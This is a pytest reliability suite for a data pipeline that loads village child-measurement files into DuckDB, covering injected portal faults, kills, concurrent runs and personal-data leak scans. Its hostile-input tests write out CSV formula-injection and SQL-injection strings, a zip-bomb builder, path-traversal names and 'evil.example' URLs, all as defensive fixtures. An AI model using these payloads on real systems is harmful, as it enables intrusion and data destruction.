"""Reliability suite: faults, outages, crashes, concurrent runs, hostile inputs, personal data and
idempotence, each through real `konvergensi run` processes on a real DuckDB file, with the
figures printed (run with -s to see them; CI logs show them on failure).

Nothing here is mocked: a real portal server on loopback (with injected faults), real files in a
landing folder, real SIGKILLs of the run's process group.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import duckdb
import pytest

from tests.paths import ROOT_DIR

ROOT = ROOT_DIR
TOKEN = "reliability-token-9f3a"
KEY = "reliability-pseudonym-key-77c1-0123456789abcdef"
VILLAGES = 16

pytestmark = pytest.mark.slow


# --- data and runs --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def src(small_submissions) -> Path:
    """Two months of a few villages plus every regency and OPD report, split like the demo:
    village streams for the portal, the rest for the landing folder."""
    return small_submissions(11, VILLAGES, village_folder="portal")


class Site:
    """One warehouse + Dagster home + landing folder + portal folder, and runs against them."""

    def __init__(self, root: Path, src: Path, name: str) -> None:
        self.root = root / name
        self.home = self.root / "home"
        self.home.mkdir(parents=True)
        (self.home / "dagster.yaml").write_text((ROOT / "dagster.yaml").read_text())
        self.landing = self.root / "landing"
        self.portal_dir = self.root / "portal"
        shutil.copytree(src / "landing", self.landing)
        shutil.copytree(src / "portal", self.portal_dir)
        self.region_master = src / "region_master.csv"
        self.published = self.root / "wh" / "banten.duckdb"
        self.work = self.root / "wh" / "work" / "banten.duckdb"
        self.logs: list[str] = []

    def env(self, portal_url: str = "", **extra) -> dict:
        env = {k: v for k, v in os.environ.items() if not k.startswith("KONVERGENSI_")}
        env.update({
            "DAGSTER_HOME": str(self.home),
            "KONVERGENSI_WAREHOUSE": str(self.published),
            "KONVERGENSI_LANDING_DIR": str(self.landing),
            "KONVERGENSI_REGION_MASTER": str(self.region_master),
            "KONVERGENSI_PSEUDONYM_KEY": KEY,
            "KONVERGENSI_PORTAL_URL": portal_url,
            "KONVERGENSI_PORTAL_TOKEN": TOKEN if portal_url else "",
            "KONVERGENSI_LOG_LEVEL": "INFO",
            "KONVERGENSI_LANDING_SETTLE_SECONDS": "0",  # files written here are complete at once
            **extra,
        })
        return env

    def start(self, portal_url: str = "", args=("--from", "2024-07", "--to", "2024-08"), **extra):
        return subprocess.Popen(
            [sys.executable, "-m", "pipelines.cli", "run", *args], cwd=ROOT, env=self.env(portal_url, **extra),
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True,
        )

    def run(self, portal_url: str = "", expect_ok: bool = True, **extra) -> str:
        proc = self.start(portal_url, **extra)
        out, _ = proc.communicate(timeout=600)
        self.logs.append(out)
        if expect_ok:
            assert proc.returncode == 0, out[-4000:]
        return out


@contextlib.contextmanager
def portal(folder: Path, faults=None):
    """A real portal server on loopback for the duration of the block."""
    from pipelines.synthetic.portal_server import make_server

    server = make_server(folder, host="127.0.0.1", port=0, token=TOKEN, faults=faults).start_in_thread()
    try:
        yield server
    finally:
        server.stop()


MART_EXCLUDE = {"ingested_at", "run_id", "rejected_at", "last_rejected_at", "validated_at", "seen_at", "warned_at", "published_at", "built_at"}


def digest(path: Path, schemas=("marts",)) -> dict[str, str]:
    """sha256 of every table's sorted contents (run-specific timestamps and ids left out)."""
    out = {}
    with duckdb.connect(str(path), read_only=True) as con:
        tables = con.execute(
            "select table_schema, table_name from information_schema.tables where table_schema in "
            f"({', '.join(repr(s) for s in schemas)}) and table_type = 'BASE TABLE' order by 1, 2"
        ).fetchall()
        for schema, table in tables:
            cols = [c for (c,) in con.execute(
                "select column_name from information_schema.columns where table_schema = ? and table_name = ? "
                "order by ordinal_position", [schema, table]).fetchall() if c not in MART_EXCLUDE]
            rows = con.execute(f'select {", ".join(chr(34) + c + chr(34) for c in cols)} '
                               f'from "{schema}"."{table}" order by all').fetchall()
            out[f"{schema}.{table}"] = hashlib.sha256(repr(rows).encode()).hexdigest()
    return out


def file_sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- 1, 2, 7: portal faults, portal down, idempotence ------------------------------------------------


def test_portal_faults_outage_and_idempotence(src, tmp_path):
    from pipelines.synthetic.portal_server import FaultPlan

    clean = Site(tmp_path, src, "clean")
    with portal(clean.portal_dir) as server:
        clean.run(server.base_url)
    reference = digest(clean.published)

    # 1. 20 % of requests fail: 503, 429 + Retry-After, resets, stalls past the read timeout,
    #    truncated bodies, invalid JSON. The run retries through them.
    faulty = Site(tmp_path, src, "faulty")
    plan = FaultPlan(rate=0.2, seed=5, retry_after="0", slow_s=2.5)
    with portal(faulty.portal_dir, faults=plan) as server:
        faulty.run(server.base_url, KONVERGENSI_PORTAL_READ_TIMEOUT="1")
        log = list(server.fault_log)
    kinds = {k: log.count(k) for k in sorted(set(log))}
    print(f"\n[faults] {len(log)} faults injected: {kinds}")
    assert len(kinds) >= 5, kinds
    assert digest(faulty.published) == reference
    # 7. the same inputs twice give byte-identical mart contents (with and without faults)
    # raw rows stay in the working file (the published file holds marts and reference only)
    with duckdb.connect(str(faulty.work), read_only=True) as a, duckdb.connect(str(clean.work), read_only=True) as b:
        n_rows = a.execute("select count(*) from raw.child_measurements").fetchall()[0][0]
        assert n_rows == b.execute("select count(*) from raw.child_measurements").fetchall()[0][0]
    print(f"[idempotence] {len(reference)} marts identical across clean and faulty runs; {n_rows} rows landed")

    # 2. the portal is down: the run fails saying so, the landing folder still lands, and the
    #    published warehouse is not touched
    before = file_sha(clean.published)
    extra = clean.landing / "opd_programmes" / "DINKES_2024-Q3_revisi.json"
    extra.write_text(json.dumps({"rows": []}))
    out = clean.run("http://127.0.0.1:9", expect_ok=False)
    assert "portal" in out.lower() and ("unavailable" in out.lower() or "connect" in out.lower()), out[-2000:]
    assert file_sha(clean.published) == before
    with duckdb.connect(str(clean.work), read_only=True) as con:
        assert con.execute("select count(*) from raw.submissions where file_name = ?", [extra.name]).fetchall() == [(1,)]
    print("[portal down] run failed with a portal error; published file unchanged; landing still landed")


# --- 3: SIGKILL at random points ----------------------------------------------------------------------


def test_sigkill_at_random_points_leaves_a_good_warehouse(src, tmp_path):
    # "after": everything, built in one clean run (timed, to spread the kills over a whole run)
    full = Site(tmp_path, src, "full")
    shutil.copytree(full.portal_dir, full.landing, dirs_exist_ok=True)
    t = time.perf_counter()
    full.run()
    span = time.perf_counter() - t
    after = digest(full.published)

    # "previous": only the regency and OPD reports; then the villages' files arrive
    site = Site(tmp_path, src, "killed")
    site.run()
    previous = digest(site.published)
    assert previous != after
    snapshot = site.root / "wh_previous"
    shutil.copytree(site.root / "wh", snapshot)
    shutil.copytree(site.portal_dir, site.landing, dirs_exist_ok=True)

    rng = random.Random(2024)
    outcomes = []
    for i in range(10):
        if digest(site.published) == after:
            # a run got through: go back to the previous warehouse so that every kill lands in
            # a run with real work to do (ingest, SQL build or publish), not a quiet rerun
            shutil.rmtree(site.root / "wh")
            shutil.copytree(snapshot, site.root / "wh")
        delay = rng.uniform(5.0, span)
        proc = site.start()
        time.sleep(delay)
        finished = proc.poll() is not None
        if not finished:
            os.killpg(proc.pid, signal.SIGKILL)  # the run and its parser workers
        proc.communicate()
        state = digest(site.published)  # opens and reads every mart
        assert state in (previous, after), f"kill {i} at {delay:.1f} s left a warehouse that is neither"
        outcomes.append(f"{delay:.1f}s:{'done' if finished else 'killed'}->{'new' if state == after else 'previous'}")
    print(f"\n[sigkill] a run takes {span:.1f} s; kills: {', '.join(outcomes)}")
    site.run()  # recovery
    assert digest(site.published) == after
    with duckdb.connect(str(site.work), read_only=True) as con:
        dupes = con.execute("select count(*) - count(distinct submission_id) from raw.submissions").fetchall()[0][0]
        dup_rows = con.execute(
            "select count(*) from (select submission_id, row_number from raw.child_measurements "
            "group by all having count(*) > 1)").fetchall()[0][0]
        lost = con.execute("select count(*) from raw.submissions").fetchall()[0][0]
    with duckdb.connect(str(full.work), read_only=True) as con:
        expected = con.execute("select count(*) from raw.submissions").fetchall()[0][0]
    assert dupes == 0 and dup_rows == 0 and lost == expected
    print(f"[sigkill] recovery run: equals the clean warehouse; {expected} submissions, 0 duplicates, 0 lost")


# --- 4: two runs at once --------------------------------------------------------------------------------


def test_two_runs_at_once(src, tmp_path):
    site = Site(tmp_path, src, "twice")
    shutil.copytree(site.portal_dir, site.landing, dirs_exist_ok=True)
    first = site.start()
    wait_until_locked(site)
    second = site.start(KONVERGENSI_RUN_LOCK_WAIT="0")
    out2, _ = second.communicate(timeout=600)
    out1, _ = first.communicate(timeout=600)
    assert first.returncode == 0, out1[-3000:]
    assert second.returncode != 0
    assert "another run is writing the warehouse" in out2, out2[-3000:]
    # and a run that may wait does wait, then succeeds (--force: nothing is new since the first
    # part, and a quiet night would start no run at all)
    forced = ("--from", "2024-07", "--to", "2024-08", "--force")
    first = site.start(args=forced)
    wait_until_locked(site)
    waiter = site.start(args=forced, KONVERGENSI_RUN_LOCK_WAIT="600")
    assert first.wait(600) == 0 and waiter.wait(600) == 0
    with duckdb.connect(str(site.work), read_only=True) as con:
        assert con.execute("select count(*) - count(distinct submission_id) from raw.submissions").fetchall() == [(0,)]
    print("\n[two runs] the second stopped clearly (no wait) or waited and succeeded; nothing corrupted")


def wait_until_locked(site: Site, timeout: float = 120) -> None:
    """Until a run holds the warehouse's run lock (so the next run really starts second)."""
    import fcntl

    lock = site.root / "wh" / "work" / ".run.lock"
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if lock.exists():
            with open(lock) as handle:
                try:
                    fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
                    fcntl.flock(handle, fcntl.LOCK_UN)
                except BlockingIOError:
                    return
        time.sleep(0.2)
    raise AssertionError("the first run never took the lock")


# --- 5, 6: hostile inputs and personal data --------------------------------------------------------------


def _zip_bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("xl/worksheets/sheet1.xml", "w") as sheet:
            block = b"<c><v>0</v></c>" * 65536
            for _ in range(300 * 1024 * 1024 // len(block)):
                sheet.write(block)


def _hostile_files(site: Site) -> dict[str, str]:
    """Write hostile files; returns {relative path: expected reason code (file or row)}."""
    cm = site.landing / "child_measurements"
    cm.mkdir(parents=True, exist_ok=True)
    # an August export: its rows go into files named for August (a July file's rows would be
    # measured_outside_period there)
    good = sorted((site.portal_dir / "child_measurements").glob("*_2024-08.csv"))[0].read_bytes()
    header, *rows = good.decode("utf-8-sig").splitlines()
    expected = {}

    def write(name: str, data: bytes, reason: str) -> None:
        (cm / name).write_bytes(data)
        expected[f"child_measurements/{name}"] = reason

    write("36.01.01.2001_2024-08_truncated.csv", good[: len(good) // 3 + 7], "row:")
    write("36.01.01.2002_2024-08_binary.csv", bytes(range(256)) * 64, "file:")
    write("36.01.01.2003_2024-08_binary.xlsx", os.urandom(4096), "file:not_xlsx|format_mismatch")
    write("36.01.01.2004_2024-08_cut.xlsx", b"PK\x03\x04" + os.urandom(2000), "file:not_xlsx")
    _zip_bomb(cm / "36.01.01.2005_2024-08_bomb.xlsx")
    expected["child_measurements/36.01.01.2005_2024-08_bomb.xlsx"] = "file:too_large"
    cols = header.split(";")

    serial = iter(range(1, 100))

    def row_with(**cells) -> str:
        """A copy of the first row as a different child (own NIK and name), with ``cells`` changed."""
        base = rows[0].split(";")
        n = next(serial)
        base[cols.index("NIK")] = f"36010199990000{n:02d}"
        base[cols.index("Nama")] = f"ANAK UJI {n}"
        for name, value in cells.items():
            base[cols.index(name)] = value
        return ";".join(base)

    hostile_rows = [
        row_with(**{"Posyandu": "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"}),
        row_with(**{"Posyandu": "=cmd|' /C calc'!A0"}),
        row_with(**{"Desa/Kel": "O'Brien') OR 1=1; DROP TABLE raw.submissions --"}),
        row_with(**{"Desa/Kel": "KARANG' UNION SELECT * FROM raw.submissions --"}),
        row_with(**{"Nama": "Ахмад Ѕаputra"}),  # Cyrillic look-alikes
        row_with(**{"Tanggal Pengukuran": "31/02/2024"}),
        row_with(**{"Berat": "-4,2"}),
        row_with(**{"Tinggi": "987,0"}),
        row_with(**{"Posyandu": "x" * (10 * 1024 * 1024)}),  # a 10 MB cell
    ]
    write("36.01.01.2006_2024-08_hostile.csv", ("\ufeff" + "\n".join([header, *rows[:12], *hostile_rows])).encode(),
          "row:")
    # a name with a control character is never trusted as an identity (traversal: see below)
    write("36.01.01.2007_2024-08\x07.csv", good, "file:bad_file_name")
    return expected


def test_hostile_inputs_are_quarantined_and_personal_data_never_leaks(src, tmp_path):
    site = Site(tmp_path, src, "hostile")
    expected = _hostile_files(site)
    with portal(site.portal_dir) as server:
        out = site.run(server.base_url)  # succeeds: every hostile file or row is quarantined, nothing crashes
    assert "Traceback" not in out, out[-4000:]
    assert site.work.exists()
    con = duckdb.connect(str(site.work), read_only=True)
    files = dict(con.execute("select file_name, reason_code from quarantine.rejected_files").fetchall())
    # a row that cannot be used is quarantined whole; a bad value alone is nulled and recorded (issue 16)
    row_reasons = dict(con.execute(
        "select file_name, string_agg(distinct reason_code, ',') from (select file_name, reason_code from "
        "quarantine.rejected_rows union all select file_name, reason_code from quarantine.rejected_values) "
        "group by 1").fetchall())
    nulled = {r for (r,) in con.execute("select distinct reason_code from quarantine.rejected_values").fetchall()}
    assert {"weight_out_of_range", "lenhei_out_of_range"} <= nulled, nulled
    accepted = {n for (n,) in con.execute("select file_name from raw.submissions where status = 'accepted'").fetchall()}
    report = []
    for rel, want in expected.items():
        name = rel.split("/", 1)[1]
        if want.startswith("file:"):
            assert name in files, f"{name!r} was not quarantined as a file"
            if want != "file:":
                assert files[name] in want[5:].split("|"), (name, files[name])
            report.append((name[:40], "file", files[name]))
        else:
            assert name in accepted and name in row_reasons, f"{name!r}: rows not quarantined, no value nulled"
            report.append((name[:40], "rows", row_reasons[name]))
    hostile = [r[2] for r in report if "hostile" in r[0]][0]
    for code in ("invalid_date", "weight_out_of_range", "lenhei_out_of_range", "unknown_village", "value_too_long"):
        assert code in hostile, (code, hostile)
    # the injection attempt is data, not SQL: the table it names is still there
    assert con.execute("select count(*) from raw.submissions").fetchall()[0][0] > 0
    con.close()
    print("\n[hostile] " + "; ".join(f"{n}: {k} {r}" for n, k, r in report))

    # formulas never reach an export unescaped (and they did reach the marts, escaped)
    exports = list((site.root / "wh" / "parquet").glob("*.parquet"))
    assert exports
    fct = site.root / "wh" / "parquet" / "fct_child_measurement.parquet"
    with duckdb.connect() as c:
        escaped = c.execute(f"select count(*) from '{fct}' where starts_with(posyandu, chr(39) || '=')").fetchall()
    assert escaped == [(2,)], escaped
    bad = []
    for f in exports:
        with duckdb.connect() as c:
            for (col,) in c.execute(f"select column_name from (describe select * from '{f}') "
                                    "where column_type = 'VARCHAR'").fetchall():
                n = c.execute(f"select count(*) from '{f}' where regexp_matches(\"{col}\", '^[=+@]')").fetchall()[0][0]
                if n:
                    bad.append((f.name, col, n))
    assert not bad, bad

    # 6. personal data: NIKs and names from the generated files, the token and the key, are in
    #    no file under warehouse/, the Dagster storage, or the run logs
    from tests.ingestion.test_land import _personal_values

    niks, names = _personal_values(site.portal_dir)
    assert niks and names
    secrets = [TOKEN, KEY]
    leaks = scan_for_personal_data([site.root / "wh", site.home], site.logs, niks, names, secrets)
    print(f"[personal data] scanned {leaks['files']} files and {len(site.logs)} run logs for {len(niks)} NIKs, "
          f"{len(names)} names, the token and the key: {leaks['found'] or 'nothing found'}")
    assert not leaks["found"], leaks["found"]


NIK_RE = re.compile(rb"(?<![0-9a-f])[0-9]{16}(?![0-9a-f])")


def scan_for_personal_data(folders, logs, niks, names, secrets) -> dict:
    """Byte scan of every file (DuckDB files through SQL too: their strings may be compressed)."""
    found = []
    n_files = 0
    needles = [s.encode() for s in secrets] + [n.encode() for n in names]
    nik_set = {n.encode() for n in niks}
    for folder in folders:
        for path in folder.rglob("*"):
            if not path.is_file() or path.suffix == ".lock":
                continue
            n_files += 1
            data = path.read_bytes()
            hits = [m.group() for m in NIK_RE.finditer(data) if m.group() in nik_set]
            hits += [n for n in needles if n in data]
            if hits:
                found.append((str(path.relative_to(folder)), hits[0][:20]))
            if path.suffix == ".duckdb":
                found += [(path.name, h) for h in _duckdb_text_hits(path, niks, names, secrets)]
    for i, log in enumerate(logs):
        for needle in [*secrets, *names, *niks]:
            if needle in log:
                found.append((f"run log {i}", needle[:20]))
                break
    return {"files": n_files, "found": found}


def _duckdb_text_hits(path: Path, niks, names, secrets) -> list[str]:
    hits = []
    with duckdb.connect(str(path), read_only=True) as con:
        cols = con.execute("select table_schema, table_name, column_name from information_schema.columns "
                           "where data_type = 'VARCHAR' and table_schema not in ('information_schema', 'pg_catalog')"
                           ).fetchall()
        for schema, table, col in cols:
            text = "\n".join(v for (v,) in con.execute(
                f'select distinct "{col}" from "{schema}"."{table}" where "{col}" is not null').fetchall())
            if any(n in text for n in list(secrets) + list(names)) or any(n in text for n in niks):
                hits.append(f"{schema}.{table}.{col}")
    return hits


def test_hostile_names_and_ids_never_become_paths_or_urls():
    from pipelines.ingestion.identity import SubmissionNameError, parse_submission_name
    from pipelines.ingestion.portal import _safe_download_path

    for name in ("../../x_2024-08.csv", "..\\x_2024-08.csv", "36.01.01.2001_2024-08\n.csv", "/etc/passwd",
                 "36.01.01.2001_2024-08.csv\x00.xlsx"):
        with pytest.raises(SubmissionNameError):
            parse_submission_name("child_measurements", name)
    hostile = {"submission_id": "../../admin?x=1#", "download_url": "@evil.example/steal"}
    assert _safe_download_path(hostile) == "/api/v1/submissions/..%2F..%2Fadmin%3Fx%3D1%23/file"
    for url in ("//evil.example/x", "/api/v1/submissions/../../x", "http://evil.example/x",
                "/api/v1/submissions/a\r\nHost: evil/file"):
        assert _safe_download_path({"submission_id": "s1", "download_url": url}) == "/api/v1/submissions/s1/file"
    ok = "/api/v1/submissions/chi-abc/file"
    assert _safe_download_path({"submission_id": "chi-abc", "download_url": ok}) == ok


# --- issue 18: a night of poison files -------------------------------------------------------------


def test_a_night_of_poison_files_lands_everything_else_and_names_each_refusal(small_submissions, tmp_path):
    """A poison XLSX (cells at A1 and XFD1048576: the reader would abort the process), a symlink to a
    secret outside the landing folder, a 500k-column CSV and a file deleted between the listing and
    the read, among a month of real files: the run succeeds and publishes, every other file lands,
    each refused file is named with its reason, the vanished one is counted, the secret is read by no one.

    In-process (the one seam: the read of one file deletes it first, as a person emptying the folder
    at the wrong moment would); everything else is the real run."""
    import pandas as pd
    from dagster import AssetKey, DagsterInstance

    import pipelines.ingestion.incoming as incoming
    from pipelines.runs.inprocess import run_pipeline
    from tests.parsing.crafted import far_corner_xlsx, wide_csv
    from tests.sites import pipeline_site

    src = small_submissions(11, 4, village_folder="landing")
    landing = tmp_path / "landing"
    shutil.copytree(src / "landing", landing)
    good = sorted(str(p.relative_to(landing)) for p in landing.rglob("*") if p.is_file())
    chosen = {p.name.split("_")[0] for p in (landing / "child_measurements").iterdir()}
    regions = pd.read_csv(src / "region_master.csv", dtype=str)
    spare = sorted(set(regions.loc[regions["level"] == "village", "code"]) - chosen)[:4]
    cm = landing / "child_measurements"
    secret = tmp_path / "secret.env"
    secret.write_text(f"KONVERGENSI_PSEUDONYM_KEY={KEY}\n")
    poison = {f"{spare[0]}_2024-08.xlsx": "too_large", f"{spare[1]}_2024-08.csv": "not_regular_file",
              f"{spare[2]}_2024-08.csv": "too_large"}
    (cm / f"{spare[0]}_2024-08.xlsx").write_bytes(far_corner_xlsx())
    (cm / f"{spare[1]}_2024-08.csv").symlink_to(secret)
    (cm / f"{spare[2]}_2024-08.csv").write_bytes(wide_csv(500_000))
    vanishing = cm / f"{spare[3]}_2024-08.csv"
    shutil.copy2(next(cm.glob("*_2024-08.csv")), vanishing)
    real_read = incoming.read_listed

    def read_after_someone_deleted_it(path, listed):
        if path == vanishing:
            path.unlink()
        return real_read(path, listed)

    with pipeline_site(tmp_path, KONVERGENSI_LANDING_DIR=landing, KONVERGENSI_PSEUDONYM_KEY=KEY,
                       KONVERGENSI_INGEST_WORKERS=0, KONVERGENSI_REGION_MASTER=src / "region_master.csv",
                       KONVERGENSI_LANDING_SETTLE_SECONDS=0):
        with pytest.MonkeyPatch.context() as mp:
            mp.setattr(incoming, "read_listed", read_after_someone_deleted_it)
            summary = run_pipeline("2024-07", "2024-08", quiet=True)
        with DagsterInstance.get() as instance:
            event = instance.get_latest_materialization_event(AssetKey(["raw", "submissions"]))
            vanished = event.asset_materialization.metadata["files_vanished"].value
    rendered = summary.render()
    assert summary.success, rendered
    assert (tmp_path / "wh" / "banten.duckdb").exists()
    with duckdb.connect(str(tmp_path / "wh" / "work" / "banten.duckdb"), read_only=True) as con:
        accepted = {r[0] for r in con.execute(
            "select stream || '/' || file_name from raw.submissions where status = 'accepted'").fetchall()}
        refused = dict(con.execute(
            "select file_name, reason_code from quarantine.rejected_files").fetchall())
    assert accepted == set(good), set(good) ^ accepted  # every other file landed
    assert refused == poison
    assert vanished == 1 and vanishing.name not in accepted | set(refused)
    for name in poison:
        assert name in rendered, rendered  # the run summary names each refused file
    hits = [p for p in (tmp_path / "wh").rglob("*") if p.is_file() and KEY.encode() in p.read_bytes()]
    assert not hits, hits
    print(f"\n[poison night] {len(accepted)} files landed; refused {refused}; 1 vanished; 0 rows lost")
